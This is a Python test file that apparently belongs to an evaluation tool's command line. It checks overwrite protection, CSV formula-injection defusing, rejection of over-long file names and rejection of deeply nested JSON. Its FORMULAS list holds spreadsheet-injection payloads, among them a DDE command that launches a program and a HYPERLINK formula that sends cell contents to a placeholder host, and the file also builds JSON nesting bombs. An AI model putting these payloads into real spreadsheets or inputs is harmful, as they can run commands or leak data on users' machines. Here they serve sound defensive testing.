"""Files that commands write: none is destroyed, and no cell of a table runs as a formula."""

import csv
import io
import json
import shutil

import pytest

from peerjudge.data import Outcome, Verdict
from peerjudge.spreadsheets import CsvTable

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x"&A1)',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\ufeff=1+1",
]


@pytest.fixture
def study(played, tmp_path):
    """A shell with a copy of the run, which a test may damage."""
    shutil.copytree(played.folder / "study", tmp_path / "study")
    return played.in_folder(tmp_path)


@pytest.mark.parametrize("form", ["jsonl", "csv", "parquet", "arena"])
def test_an_export_replaces_no_file_without_force(study, form):
    """A file that exists stays, and --force replaces it."""
    kept = study.folder / "kept.txt"
    kept.write_text("mine")
    words = ("export", "study", "--format", form, "-o", "kept.txt")
    outcome = study(*words)
    assert outcome.code == 2
    assert "kept.txt exists" in outcome.err
    assert "--force" in outcome.err
    assert kept.read_text() == "mine"
    assert study(*words, "--force").code == 0
    assert kept.read_bytes() != b"mine"


@pytest.mark.parametrize("target", ["study/store.db", "study/manifest.json"])
@pytest.mark.parametrize(
    "words", [("export", "--format", "csv"), ("report",)], ids=["export", "report"]
)
def test_no_command_replaces_the_data_of_a_run(study, target, words):
    """The store and the manifest stay even with --force, and the run is readable afterwards."""
    before = (study.folder / target).read_bytes()
    command, *options = words
    outcome = study(command, "study", *options, "-o", target, "--force")
    assert outcome.code == 2, outcome.out
    assert (study.folder / target).read_bytes() == before
    assert study("events", "study").code == 0


def test_an_export_does_not_replace_the_file_that_it_reads(study):
    """A transcript file is not written while it is read."""
    assert study("export", "study", "--format", "jsonl", "-o", "talk.jsonl").code == 0
    before = (study.folder / "talk.jsonl").read_bytes()
    words = ("export", "talk.jsonl", "--format", "csv", "-o", "talk.jsonl", "--force")
    assert study(*words).code == 2
    assert (study.folder / "talk.jsonl").read_bytes() == before


@pytest.mark.slow
def test_a_report_replaces_earlier_reports_only(study):
    """A page and its numbers are written again; a foreign page or numbers file stays."""
    words = ("report", "study", "-o", "page.html")
    assert study(*words).code == 0
    assert study(*words).code == 0
    for name in ("page.json", "page.html"):
        (study.folder / name).write_text('{"mine": 1}')
        outcome = study(*words)
        assert outcome.code == 2
        assert f"{name} exists" in outcome.err
        assert (study.folder / name).read_text() == '{"mine": 1}'
    assert study(*words, "--force").code == 0


@pytest.mark.slow
def test_figures_replace_earlier_figures_only(study):
    """`report --figures` writes its own figures again; a foreign picture of that name stays."""
    words = ("report", "study", "--figures", "drawn")
    assert study(*words).code == 0
    (study.folder / "study" / "report.html").unlink()
    for ending, force in (("svg", ()), ("png", ("--force",))):
        (drawn, *_) = sorted((study.folder / "drawn").glob(f"*.{ending}"))
        own = drawn.read_bytes()
        drawn.write_text("mine")
        outcome = study(*words)
        assert outcome.code == 2
        assert f"{drawn.name} exists; name another place with --figures" in outcome.err
        assert drawn.read_text() == "mine"
        assert not (study.folder / "study" / "report.html").exists()
        drawn.write_bytes(own if not force else b"mine")
    assert study(*words, "--force").code == 0
    assert drawn.read_bytes() == own


@pytest.mark.parametrize("words", [("rank",), ("events", "--summary")], ids=["rank", "events"])
def test_a_graph_replaces_no_file_without_force(study, words):
    """A file that exists stays, the store of a run even with --force."""
    command, *options = words
    (study.folder / "kept.txt").write_text("mine")
    outcome = study(command, "study", *options, "--graph", "kept.txt")
    assert (outcome.code, "kept.txt exists" in outcome.err) == (2, True)
    assert (study.folder / "kept.txt").read_text() == "mine"
    assert study(command, "study", *options, "--graph", "kept.txt", "--force").code == 0
    assert "graphml" in (study.folder / "kept.txt").read_text()
    assert study(command, "study", *options, "--graph", "study/store.db", "--force").code == 2


@pytest.mark.slow
def test_a_plan_replaces_earlier_plans_only(shell):
    """`plan --out` writes its own files again; foreign files of those names stay."""
    words = ("plan", "leader_follower", "--studies", "20", "--comparisons", "4", "--out", "kept")
    assert shell(*words).code == 0
    for name, force in (("power-1.svg", ()), ("plan.json", ("--force",))):
        kept = shell.folder / "kept" / name
        drawn = kept.read_text()
        kept.write_text("mine")
        outcome = shell(*words)
        assert (outcome.code, f"{name} exists" in outcome.err) == (2, True)
        assert kept.read_text() == "mine"
        kept.write_text(drawn)
        assert shell(*words, *force).code == 0


def test_a_page_has_another_name_than_its_numbers(study):
    """`-o FILE.json` would be written twice."""
    outcome = study("report", "study", "-o", "page.json")
    assert (outcome.code, "FILE.html" in outcome.err) == (2, True)
    assert not (study.folder / "page.json").exists()


def test_a_run_completes_beside_a_foreign_report(shell):
    """A folder may hold a `report.html` of the user: it stays, and the run is not lost."""
    (shell.folder / "here").mkdir()
    (shell.folder / "here" / "report.html").write_text("mine")
    outcome = shell("run", "leader_follower", "--limit", "1", "-S", "turns=2", "--out", "here")
    assert outcome.code == 0, outcome.err
    assert "No report is written" in outcome.err
    assert (shell.folder / "here" / "report.html").read_text() == "mine"


def test_a_table_for_spreadsheets_holds_no_formula(shell):
    """Texts that a spreadsheet would run begin with a quote, unless raw cells are wanted."""
    rows = [
        {"id": f"{text}{n}", "question": text, "answer_a": "a", "answer_b": "b", "category": text}
        for n, text in enumerate(FORMULAS)
    ]
    (shell.folder / "f.jsonl").write_text("".join(f"{json.dumps(row)}\n" for row in rows))
    settings = ("-S", "turns=0", "-S", "leader=first", "-S", "orders=given", "--display", "none")
    words = ("run", "leader_follower", "--data", "jsonl:f.jsonl", "--out", "study", *settings)
    assert shell(*words).code == 0
    for frame in ((), ("--frame", "turns"), ("--frame", "discussions")):
        safe = cells(shell("export", "study", "--format", "csv", *frame).out)
        assert not [cell for cell in safe if cell.startswith(("=", "+", "@", "\t", "\r"))]
        raw = cells(shell("export", "study", "--format", "csv", "--raw-cells", *frame).out)
        assert [cell for cell in raw if cell.startswith("=")]
        assert len(raw) == len(safe)
        assert [cell.removeprefix("'") for cell in safe] == [cell.removeprefix("'") for cell in raw]


def cells(text):
    """Return all cells of a CSV text."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def write(*rows, **options):
    """Return rows as a CSV text."""
    written = io.StringIO(newline="")
    table = CsvTable(written, **options)
    for row in rows:
        table.add(row)
    return written.getvalue()


@pytest.mark.parametrize("cell", [-1, -0.5, 3, None, True, "a=1", "text", ""])
def test_numbers_and_harmless_texts_stay(cell):
    """A negative number is no formula."""
    assert cells(write([cell, "end"])) == ["" if cell is None else str(cell), "end"]


@pytest.mark.parametrize("text", FORMULAS)
def test_each_beginning_of_a_formula_is_defused(text):
    """A quote at the beginning makes a cell a text, whatever the type that has this text."""
    values = (text, Verdict(Outcome.CHOICE, text), [], type("Named", (str,), {})(text))
    assert cells(write(values)) == [f"'{text}", f"'{text}", "[]", f"'{text}"]
    assert cells(write(values, raw=True))[:2] == [text, text]
    assert cells(write(values, line_end="\n")) == cells(write(values))


def test_headings_and_verdicts_of_others_run_nothing(shell):
    """Names of contestants and categories are cells and headings too: no table has one that runs."""
    rows = [
        {
            "id": f"=q{number}",
            "question": f"Which is number {number}?",
            "answer_a": "a short one",
            "answer_b": "a longer one",
            "model_a": '=HYPERLINK("http://x","y")a',
            "model_b": "@SUM(1)",
            "gold": "ab"[number % 2],
            "category": "=1+1",
        }
        for number in range(3)
    ]
    (shell.folder / "f.jsonl").write_text("".join(f"{json.dumps(row)}\n" for row in rows))
    settings = ("-S", "turns=0", "-S", "leader=first", "-S", "orders=given", "--display", "none")
    words = ("run", "leader_follower", "--data", "jsonl:f.jsonl", "--out", "study", *settings)
    assert shell(*words).code == 0
    for words in (
        ("export", "study"),
        ("export", "study", "--frame", "turns"),
        ("score", "study", "--by", "category"),
    ):
        printed = shell(*words, "--format", "csv").out
        assert "'=" in printed, words
        begun = [cell for cell in cells(printed) if cell.startswith(("=", "@", "+"))]
        assert not begun, words


LONG = "x" * 300


@pytest.mark.parametrize(
    "words",
    [
        ("run", "leader_follower", "--limit", "1", "--out", LONG),
        ("run", "leader_follower", "--limit", "1", "--store", f"sqlite:///{LONG}.db"),
        ("run", f"{LONG}.py"),
        ("run", "leader_follower", "--data", f"jsonl:{LONG}", "--dry-run"),
        ("rank", LONG),
        ("rank", f"{LONG}.py:x"),
        ("export", LONG, "--format", "csv"),
        ("export", "study", "--format", "csv", "-o", LONG),
        ("report", "study", "-o", LONG),
        ("check", LONG),
    ],
    ids=lambda words: "-".join(word[:12] for word in words[:3]),
)
def test_a_name_that_no_file_can_have_is_one_sentence(played, words):
    """A name of 300 letters exits with 2 and one line on stderr."""
    outcome = played(*words)
    assert (outcome.code, len(outcome.err.splitlines())) == (2, 1), outcome.err
    assert outcome.err.startswith("error: ")


@pytest.mark.parametrize(
    "bomb", ["[" * 100_000, pytest.param('{"a":' * 100_000, marks=pytest.mark.slow)]
)
def test_json_that_is_nested_too_deeply_is_one_sentence(shell, bomb):
    """Data, transcript files, cards and price lists that nest without end are named, not read."""
    (shell.folder / "bomb.jsonl").write_text(f"{bomb}\n")
    (shell.folder / "talk.jsonl").write_text(f'{{"schema":"Transcript/1","data":{bomb}\n')
    commands = [
        ("run", "leader_follower", "--data", "jsonl:bomb.jsonl"),
        ("events", "bomb.jsonl"),
        ("events", "talk.jsonl"),
    ]
    for words in commands:
        outcome = shell(*words)
        assert (outcome.code, len(outcome.err.splitlines())) == (2, 1), outcome.err
    shell.write("agents/bomb.toml", f"description = {'[' * 50_000}\n")
    assert shell("list", "agents").code == 0
    checked = shell("check")
    assert (checked.code, "agents/bomb" in checked.out, checked.err) == (2, True, "")
